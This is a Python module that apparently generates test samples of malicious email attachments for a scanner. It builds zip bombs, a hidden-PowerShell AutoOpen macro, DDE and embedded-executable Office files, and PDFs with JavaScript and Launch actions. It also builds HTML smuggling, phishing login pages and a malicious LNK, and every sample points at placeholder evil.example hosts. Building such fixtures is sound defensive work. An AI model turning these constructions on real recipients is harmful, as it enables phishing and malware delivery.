"""Attachments of every kind, put together by hand."""

import base64
import bz2
import gzip
import io
import lzma
import struct
import tarfile
import zipfile
import zlib

import zxingcpp
from PIL import Image

PE = b"MZ" + bytes(200)
LURE = "https://login.evil.example/verify?u=1"


def zipped(members: dict[str, bytes], *, compress: bool = True) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED if compress else zipfile.ZIP_STORED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return file.getvalue()


def encrypted_zip() -> bytes:
    """The general purpose bit 0 says encrypted, in the local and the central header."""
    content = bytearray(zipped({"invoice.exe": b"secret" * 20}))
    content[6] |= 1
    content[content.find(b"PK\x01\x02") + 8] |= 1
    return bytes(content)


def zip_bomb() -> bytes:
    inner = zipped({"zeros.bin": bytes(30_000_000)})
    return zipped({f"{number}.zip": inner for number in range(20)}, compress=False)


def tarred(members: dict[str, bytes]) -> bytes:
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w") as archive:
        for name, content in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content))
    return file.getvalue()


def gzipped(content: bytes) -> bytes:
    return gzip.compress(content, mtime=0)


def bzipped(content: bytes) -> bytes:
    return bz2.compress(content)


def xzipped(content: bytes) -> bytes:
    return lzma.compress(content)


def seven(
    name: str, content: bytes, *, method: bytes = b"\x00", props: bytes = b"", pack: bytes | None = None
) -> bytes:
    """A 7z of one file, packed by one coder (Copy unless told)."""
    packed = content if pack is None else pack
    coder = bytes([len(method) | (0x20 if props else 0)]) + method + (bytes([len(props)]) + props if props else b"")
    names = b"\x00" + (name + "\x00").encode("utf-16-le")
    header = (
        b"\x01\x04\x06\x00\x01\x09" + _seven_number(len(packed)) + b"\x00"
        + b"\x07\x0b\x01\x00\x01" + coder + b"\x0c" + _seven_number(len(content)) + b"\x00"
        + b"\x00"
        + b"\x05\x01\x11" + _seven_number(len(names)) + names + b"\x00"
        + b"\x00"
    )  # fmt: skip
    return _seven_file(packed, header)


def seven_lzma(name: str, content: bytes) -> bytes:
    filters = [{"id": lzma.FILTER_LZMA1, "dict_size": 1 << 16, "lc": 3, "lp": 0, "pb": 2}]
    packed = lzma.compress(content, format=lzma.FORMAT_RAW, filters=filters)
    props = bytes([3 + 9 * (0 + 5 * 2)]) + struct.pack("<I", 1 << 16)
    return seven(name, content, method=b"\x03\x01\x01", props=props, pack=packed)


def seven_bcj(name: str, content: bytes) -> bytes:
    """As 7-Zip packs programs: LZMA2 behind a filter for x86."""
    lzma2 = {"id": lzma.FILTER_LZMA2, "dict_size": 1 << 16}
    packed = lzma.compress(content, format=lzma.FORMAT_RAW, filters=[{"id": lzma.FILTER_X86}, lzma2])
    names = b"\x00" + (name + "\x00").encode("utf-16-le")
    coders = b"\x02" + b"\x04\x03\x03\x01\x03" + b"\x21\x21\x01\x08" + b"\x00\x01"
    size = _seven_number(len(content))
    header = (
        b"\x01\x04\x06\x00\x01\x09" + _seven_number(len(packed)) + b"\x00"
        + b"\x07\x0b\x01\x00" + coders + b"\x0c" + size + size + b"\x00" + b"\x00"
        + b"\x05\x01\x11" + _seven_number(len(names)) + names + b"\x00" + b"\x00"
    )  # fmt: skip
    return _seven_file(packed, header)


def seven_hidden_names() -> bytes:
    """The list itself is packed by AES."""
    packed = bytes(64)
    aes = b"\x06\xf1\x07\x01"
    header = (
        b"\x17\x06\x00\x01\x09" + _seven_number(len(packed)) + b"\x00"
        + b"\x07\x0b\x01\x00\x01" + bytes([0x24]) + aes + b"\x02\x13\x00" + b"\x0c" + _seven_number(60) + b"\x00\x00"
    )  # fmt: skip
    return _seven_file(packed, header)


def _seven_number(value: int) -> bytes:
    return bytes([value]) if value < 0x80 else b"\xe0" + value.to_bytes(3, "little")


def _seven_file(packed: bytes, header: bytes) -> bytes:
    start = struct.pack("<QQI", len(packed), len(header), zlib.crc32(header))
    return b"7z\xbc\xaf\x27\x1c\x00\x04" + struct.pack("<I", zlib.crc32(start)) + start + packed + header


def rar(name: str, content: bytes, *, packed: bytes | None = None) -> bytes:
    """RAR 5 with one member: stored, or these packed bytes."""

    def block(body: bytes) -> bytes:
        sized = bytes([len(body)]) + body
        return struct.pack("<I", zlib.crc32(sized)) + sized

    def number(value: int) -> bytes:
        return bytes([value & 0x7F | 0x80, value >> 7])

    encoded = name.encode()
    body = content if packed is None else packed
    member = (
        b"\x02\x02" + number(len(body)) + b"\x04" + number(len(content)) + b"\x20"
        + struct.pack("<I", zlib.crc32(content)) + number(0 if packed is None else 3 << 7) + b"\x00"
        + bytes([len(encoded)]) + encoded
    )  # fmt: skip
    return b"Rar!\x1a\x07\x01\x00" + block(b"\x01\x00\x00") + block(member) + body + block(b"\x05\x00\x00")


def rar_packed(name: str, content: bytes) -> bytes:
    """RAR 5 with one member in a block of Huffman codes, in which each byte is a literal of eight bits."""
    lengths = [0] * 20
    lengths[8] = lengths[19] = 1  # of two codes: "0" says that a symbol has eight bits, "1" that a run has none
    bits = "".join(f"{length:04b}" for length in lengths)
    bits += "0" * 256 + "".join("1" + f"{run - 11:07b}" for run in (138, 174 - 138))
    bits += "".join(f"{byte:08b}" for byte in content)
    whole, used = -(-len(bits) // 8), len(bits) % 8 or 8
    data = int(bits.ljust(whole * 8, "0"), 2).to_bytes(whole, "big")
    flags = 0xC0 | 1 << 3 | used - 1  # the last block, with tables, its size in two bytes
    size = struct.pack("<H", whole)
    return rar(name, content, packed=bytes([flags, 0x5A ^ flags ^ size[0] ^ size[1]]) + size + data)


def rar3(members: dict[str, bytes], *, is_solid: bool = False, is_encrypted: bool = False) -> bytes:
    """RAR 3 with stored members; solid ones say that they need those before them."""

    def block(kind: int, flags: int, body: bytes) -> bytes:
        head = struct.pack("<BHH", kind, flags, 7 + len(body)) + body
        return struct.pack("<H", zlib.crc32(head) & 0xFFFF) + head

    found = [b"Rar!\x1a\x07\x00", block(0x73, 0x08 * is_solid, bytes(6))]
    for at, (name, content) in enumerate(members.items()):
        encoded = name.encode()
        sizes = struct.pack(
            "<IIBIIBBHI", len(content), len(content), 2, zlib.crc32(content), 0, 29, 0x30, len(encoded), 32
        )
        flags = 0x8000 | 0x10 * (is_solid and at > 0) | 0x04 * is_encrypted
        found += [block(0x74, flags, sizes + encoded), content]
    return b"".join([*found, block(0x7B, 0x4000, b"")])


def iso(name: str, content: bytes) -> bytes:
    def record(raw: bytes, sector: int, size: int, flags: int) -> bytes:
        body = struct.pack("<I", sector) + struct.pack(">I", sector) + struct.pack("<I", size) + struct.pack(">I", size)
        body = b"\x00" + body + bytes(7) + bytes([flags, 0, 0]) + struct.pack("<H", 1) + struct.pack(">H", 1)
        body += bytes([len(raw)]) + raw
        body += b"\x00" * (len(body) % 2 == 0)
        return bytes([len(body) + 1]) + body

    root = record(b"\x00", 18, 2048, 2)
    descriptor = (b"\x01CD001\x01".ljust(156, b"\x00") + root).ljust(2048, b"\x00")
    end = b"\xffCD001\x01".ljust(2048, b"\x00")
    directory = root + record(b"\x01", 18, 2048, 2) + record(name.encode() + b";1", 19, len(content), 0)
    return bytes(16 * 2048) + descriptor + end + directory.ljust(2048, b"\x00") + content.ljust(2048, b"\x00")


def cab(files: dict[str, bytes], *, method: int = 1) -> bytes:
    """A cabinet by MSZIP, or by a method that its data does not follow."""
    entries, at = b"", 0
    for name, content in files.items():
        entries += struct.pack("<IIHHHH", len(content), at, 0, 0, 0, 0) + name.encode() + b"\x00"
        at += len(content)
    whole = b"".join(files.values())
    blocks = []
    for start in range(0, len(whole), 32768):
        packer = zlib.compressobj(wbits=-15)
        piece = whole[start : start + 32768]
        packed = b"CK" + packer.compress(piece) + packer.flush()
        blocks.append(struct.pack("<IHH", 0, len(packed), len(piece)) + packed)
    first = 36 + 8
    folder = struct.pack("<IHH", first + len(entries), len(blocks), method)
    size = first + len(entries) + sum(map(len, blocks))
    head = struct.pack("<4sIIIIIBBHHHHH", b"MSCF", 0, size, 0, first, 0, 3, 1, 1, len(files), 0, 0, 0)
    return head + folder + entries + b"".join(blocks)


def ole(streams: dict[str, bytes]) -> bytes:
    """A compound file; streams are padded with NULs to leave the mini stream out. Paths use "/"."""
    entries: list[dict] = [{"name": "Root Entry", "kind": 5, "kids": [], "data": b""}]
    storages = {"": 0}

    def add(path: str, kind: int, data: bytes) -> int:
        parent, _, name = path.rpartition("/")
        if parent not in storages:
            storages[parent] = add(parent, 1, b"")
        entries.append({"name": name, "kind": kind, "kids": [], "data": data})
        entries[storages[parent]]["kids"].append(len(entries) - 1)
        return len(entries) - 1

    for path, data in streams.items():
        add(path, 2, data.ljust(4096, b"\x00"))
    none = 0xFFFFFFFF
    sectors: list[bytes] = []
    fat: list[int] = []

    def store(data: bytes) -> int:
        first = len(sectors)
        chunks = [data[at : at + 512].ljust(512, b"\x00") for at in range(0, len(data), 512)]
        sectors.extend(chunks)
        fat.extend([*range(first + 1, first + len(chunks)), 0xFFFFFFFE])
        return first

    starts = [store(entry["data"]) if entry["data"] else 0xFFFFFFFE for entry in entries]
    right = dict.fromkeys(range(len(entries)), none)
    for entry in entries:
        for this, following in zip(entry["kids"], entry["kids"][1:], strict=False):
            right[this] = following
    directory = b""
    for number, entry in enumerate(entries):
        name = (entry["name"] + "\x00").encode("utf-16-le")
        child = entry["kids"][0] if entry["kids"] else none
        directory += name.ljust(64, b"\x00") + struct.pack(
            "<HBBIII", len(name), entry["kind"], 1, none, right[number], child
        )
        directory += bytes(36) + struct.pack("<IQ", starts[number], len(entry["data"]))
    while len(directory) % 512:
        directory += bytes(64) + struct.pack("<HBBIII", 0, 0, 0, none, none, none) + bytes(48)
    directory_at = store(directory)
    count = 1
    while (len(fat) + count + 127) // 128 > count:
        count += 1
    fat_at = len(sectors)
    fat.extend([0xFFFFFFFD] * count)
    fat.extend([none] * (count * 128 - len(fat)))
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16)
    header += struct.pack(
        "<HHHHHHIIIIIIIIII", 0x3E, 3, 0xFFFE, 9, 6, 0, 0, 0, count, directory_at, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0
    )
    header += b"".join(struct.pack("<I", fat_at + at if at < count else none) for at in range(109))
    return header + b"".join(sectors) + struct.pack(f"<{len(fat)}I", *fat)


def vba_stream(source: str) -> bytes:
    """A module stream: some compiled code, then the source in literal tokens."""
    text = ('Attribute VB_Name = "M"\r\n' + source).encode()
    body = b"".join(b"\x00" + text[at : at + 8] for at in range(0, len(text), 8))
    return bytes(57) + b"\x01" + struct.pack("<H", 0xB000 | (len(body) - 1)) + body


MACRO = f'Sub AutoOpen()\r\nShell "powershell -w hidden {LURE}"\r\nCreateObject("WScript.Shell")\r\nEnd Sub\r\n'


def vba_project() -> bytes:
    return ole({"VBA/_VBA_PROJECT": b"\xcc\x61", "VBA/dir": b"\x01", "VBA/ThisDocument": vba_stream(MACRO)})


_TYPES = b'<?xml version="1.0"?><Types xmlns="x"/>'


def docm() -> bytes:
    return zipped(
        {
            "[Content_Types].xml": _TYPES,
            "word/document.xml": b"<w:t>Enable content</w:t>",
            "word/vbaProject.bin": vba_project(),
        }
    )


def docx(relations: str = "", body: str = "") -> bytes:
    return zipped(
        {
            "[Content_Types].xml": _TYPES,
            "word/document.xml": f"<w:document><w:t>Quarterly report</w:t>{body}</w:document>".encode(),
            "word/_rels/settings.xml.rels": f'<Relationships xmlns="x">{relations}</Relationships>'.encode(),
        }
    )


def docx_with_picture(picture: bytes) -> bytes:
    return zipped(
        {
            "[Content_Types].xml": _TYPES,
            "word/document.xml": b"<w:document><w:t>Scan me</w:t></w:document>",
            "word/media/image1.png": picture,
        }
    )


def relation(kind: str, target: str) -> str:
    schema = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
    return f'<Relationship Id="r1" Type="{schema}{kind}" Target="{target}" TargetMode="External"/>'


def doc() -> bytes:
    return ole(
        {
            "WordDocument": b"\xec\xa5\xc1\x00" + bytes(100) + "Invoice overdue DDEAUTO c:\\x".encode("utf-16-le"),
            "Macros/VBA/_VBA_PROJECT": b"\xcc\x61",
            "Macros/VBA/NewMacros": vba_stream(MACRO),
            "ObjectPool/_1/\x01Ole10Native": ole_package("run.exe", PE),
        }
    )


def ole_package(name: str, content: bytes) -> bytes:
    label, path = name.encode() + b"\x00", b"C:\\" + name.encode() + b"\x00"
    body = b"\x02\x00" + label + path + b"\x00\x00\x03\x00" + struct.pack("<I", len(path)) + path
    body += struct.pack("<I", len(content)) + content
    return struct.pack("<I", len(body)) + body


def xls_macro_sheet() -> bytes:
    sheet = struct.pack("<IBB", 0, 0, 1) + b"\x06\x00Macro1"
    return ole({"Workbook": struct.pack("<HHHH", 0x809, 4, 0x600, 5) + struct.pack("<HH", 0x85, len(sheet)) + sheet})


def rtf() -> bytes:
    return (
        b"{\\rtf1 {\\*\\template http://templates.evil.example/t.dotm}"
        b"{\\object\\objemb{\\*\\objclass Equation.3}{\\*\\objdata 0105000002}} Dear customer}"
    )


def onenote(inner: bytes) -> bytes:
    head = b"\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3" + bytes(100)
    data = bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac") + struct.pack("<QIQ", len(inner), 0, 0) + inner
    return head + "Open.hta".encode("utf-16-le") + bytes(32) + data + bytes(16)


def lnk(target: str, args: str) -> bytes:
    head = b"L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00F"
    flags = 0x08 | 0x20 | 0x80
    head += struct.pack("<II", flags, 0x20) + bytes(24) + struct.pack("<IIIHHII", 0, 0, 1, 0, 0, 0, 0)
    strings = b"".join(struct.pack("<H", len(text)) + text.encode("utf-16-le") for text in (target, args))
    return head + strings + bytes(4)


def pdf(catalog: str = "", objects: str = "", page: str = "", text: str = "Hello") -> bytes:
    drawn = f"BT /F 12 Tf 9 50 Td ({text}) Tj ET" if text else ""
    return (
        f"%PDF-1.7\n1 0 obj <</Type/Catalog/Pages 2 0 R {catalog}>> endobj\n"
        "2 0 obj <</Type/Pages/Kids[3 0 R]/Count 1>> endobj\n"
        f"3 0 obj <</Type/Page/Parent 2 0 R/MediaBox[0 0 300 300]/Contents 4 0 R {page}"
        "/Resources<</Font<</F 5 0 R>>/XObject<</I 20 0 R>>>>>> endobj\n"
        f"4 0 obj <</Length {len(drawn)}>> stream\n{drawn}\nendstream endobj\n"
        "5 0 obj <</Type/Font/Subtype/Type1/BaseFont/Helvetica>> endobj\n"
        f"{objects}\ntrailer <</Root 1 0 R>>\n"
    ).encode("latin-1")


def pdf_actions() -> bytes:
    return pdf(
        catalog="/OpenAction 7 0 R",
        objects=(
            "7 0 obj <</S/JavaScript/JS(app.launchURL)>> endobj\n"
            "8 0 obj <</S/L#61unch/F(cmd.exe)>> endobj\n"
            f"9 0 obj <</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI({LURE})>>>> endobj"
        ),
        page="/Annots[9 0 R]",
    )


def pdf_hidden_in_object_stream() -> bytes:
    inner = zlib.compress(b"7 0 <</S/JavaScript/JS(x)>>")
    objects = f"6 0 obj <</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length {len(inner)}>> stream\n"
    return pdf(objects=objects + inner.decode("latin-1") + "\nendstream endobj")


def pdf_with_file(name: str, content: bytes) -> bytes:
    hexed = content.hex() + ">"
    return pdf(
        catalog=f"/Names<</EmbeddedFiles<</Names[({name}) 7 0 R]>>>>",
        objects=(
            f"7 0 obj <</Type/Filespec/F({name})/UF({name})/EF<</F 8 0 R>>>> endobj\n"
            f"8 0 obj <</Type/EmbeddedFile/Filter/ASCIIHexDecode/Length {len(hexed)}>> stream\n{hexed}\n"
            "endstream endobj"
        ),
    )


def pdf_with_code(payload: str) -> bytes:
    picture = code(payload).convert("L")
    hexed = picture.tobytes().hex() + ">"
    drawn = "q 250 0 0 250 20 20 cm /I Do Q"
    return pdf(text="", objects=(
        f"20 0 obj <</Type/XObject/Subtype/Image/Width {picture.width}/Height {picture.height}/ColorSpace/DeviceGray"
        f"/BitsPerComponent 8/Filter/ASCIIHexDecode/Length {len(hexed)}>> stream\n{hexed}\nendstream endobj"
    )).replace(b"<</Length 0>> stream\n\n", f"<</Length {len(drawn)}>> stream\n{drawn}\n".encode())  # fmt: skip


def code(payload: str, scale: int = 4) -> Image.Image:
    return Image.fromarray(zxingcpp.create_barcode(payload, zxingcpp.BarcodeFormat.QRCode).to_image(scale=scale))


def picture(image: Image.Image, kind: str = "png") -> bytes:
    file = io.BytesIO()
    image.save(file, kind)
    return file.getvalue()


def transparent_code(payload: str) -> bytes:
    """Black modules on transparent ground."""
    grey = code(payload).convert("L")
    layer = Image.new("RGBA", grey.size, (0, 0, 0, 0))
    layer.putalpha(grey.point(lambda value: 255 - value))
    return picture(layer)


def smuggling_html(payload: bytes) -> bytes:
    encoded = base64.b64encode(payload).decode()
    return (
        "<html><body><script>var d=atob('" + encoded + "');var a=new Uint8Array(d.length);"
        "var b=new Blob([a],{type:'octet/stream'});var u=window.URL.createObjectURL(b);"
        "var l=document.createElement('a');l.href=u;l.download='invoice.zip';l.click();</script></body></html>"
    ).encode()


def login_html() -> bytes:
    return (
        f'<html><title>Sign in</title><meta http-equiv="refresh" content="9;url={LURE}"><form action="https://c.example/p.php">'
        '<input type="password"></form></html>'
    ).encode()


def svg() -> bytes:
    return (
        '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="go()">'
        f'<script>location.href="{LURE}"</script>'
        "<foreignObject></foreignObject></svg>"
    ).encode()


def ics() -> bytes:
    return (
        "BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\n"
        'ORGANIZER;CN="Payroll: Team":mailto:Boss@Evil.Example\r\nATTENDEE;RSVP=TRUE:mailto:victim@corp.example\r\n'
        f"SUMMARY:Bonus\\, urgent\r\nDESCRIPTION:Confirm at {LURE[:20]}\r\n {LURE[20:]}\r\nLOCATION:Room 1\r\n"
        "ATTACH:https://files.evil.example/a.zip\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
    ).encode()


def eml() -> bytes:
    return (
        b"From: Boss <boss@evil.example>\r\nTo: me@corp.example\r\nSubject: Wire\r\nMIME-Version: 1.0\r\n"
        b'Content-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nsee '
        + LURE.encode()
        + b"\r\n--b\r\nContent-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\n"
        b'Content-Disposition: attachment; filename="a.lnk"\r\n\r\n' + base64.b64encode(lnk("cmd.exe", "/c calc"))
        + b"\r\n--b--\r\n"
    )  # fmt: skip


def msg() -> bytes:
    def text(value: str) -> bytes:
        return value.encode("utf-16-le")

    return ole(
        {
            "__properties_version1.0": bytes(32),
            "__substg1.0_0037001F": text("Overdue invoice"),
            "__substg1.0_5D01001F": text("boss@evil.example"),
            "__substg1.0_1000001F": text(f"Pay at {LURE} now"),
            "__attach_version1.0_#00000000/__substg1.0_3707001F": text("doc.pdf"),
            "__attach_version1.0_#00000000/__substg1.0_37010102": pdf_actions(),
        }
    )
